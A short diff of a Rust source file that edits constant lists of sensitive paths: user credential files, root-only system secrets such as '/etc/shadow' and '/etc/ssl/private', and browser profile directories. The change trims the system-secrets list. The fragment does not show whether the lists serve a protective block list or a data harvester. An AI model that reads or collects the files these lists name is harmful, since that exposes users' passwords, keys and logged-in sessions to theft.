@@ -69,14 +69,7 @@ const KEY_FILES: [&str; 11] = [
     ".cargo/credentials.toml",
 ];
 /// What only the user root can read anyway, for those who are.
-const SYSTEM_KEYS: [&str; 6] = [
-    "/etc/shadow",
-    "/etc/shadow-",
-    "/etc/gshadow",
-    "/etc/gshadow-",
-    "/etc/ssl/private",
-    "/etc/sudoers.d",
-];
+const SYSTEM_KEYS: [&str; 3] = ["/etc/shadow", "/etc/shadow-", "/etc/ssl/private"];
 /// Where browsers keep what they are logged in to.
 const BROWSERS: [&str; 13] = [
     ".mozilla",
